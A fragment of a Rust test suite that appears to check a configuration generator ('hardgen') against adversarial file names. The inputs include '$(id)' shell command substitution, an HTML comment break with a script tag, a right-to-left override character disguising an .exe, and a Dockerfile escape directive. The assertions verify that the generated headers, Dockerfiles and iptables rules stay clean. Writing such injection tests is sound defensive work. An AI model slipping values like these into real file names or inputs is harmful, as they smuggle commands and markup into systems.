        "$(id)`id`.toml",
        "a -->\n<script>.toml",
        "\u{202e}lmot.exe",
        "# escape=`",
    ] {
        let Outcome::Accepted(a, _) = run(&text, name) else {
            panic!("{name:?}: refused")
        };
        for (path, art) in a.iter() {
            let t = String::from_utf8_lossy(&art.bytes);
            assert!(
                !t.chars()
                    .any(|c| c.is_control() && c != '\n' || c == '\u{202e}'),
                "{name:?}: {path}"
            );
            let header = t.lines().find(|l| l.contains("generated by hardgen from"));
            if let Some(h) = header {
                let h = h.trim_start();
                assert!(
                    h.starts_with('#') || h.starts_with("<!--") || h.starts_with("//"),
                    "{name:?}: {path}: {h}"
                );
                assert!(
                    !h.starts_with("<!--") || h.matches("-->").count() == 1,
                    "{name:?}: {h}"
                );
            }
        }
        // A first line `# key=value` would be a Dockerfile parser directive.
        let df = text_of(&a, "dockerfiles/api.Dockerfile");
        let first = df.lines().next().unwrap_or("");
        let directive = first
            .strip_prefix('#')
            .map(str::trim_start)
            .and_then(|r| r.split_once('='))
            .is_some_and(|(k, _)| {
                let k = k.trim_end();
                !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphabetic())
            });
        assert!(!directive, "{name:?}: parser directive {first}");
        assert_eq!(
            instructions(df),
            instructions(text_of(&base_out, "dockerfiles/api.Dockerfile"))
        );
        assert_eq!(rules(text_of(&a, "firewall/iptables.rules")), base_rules);
    }
}
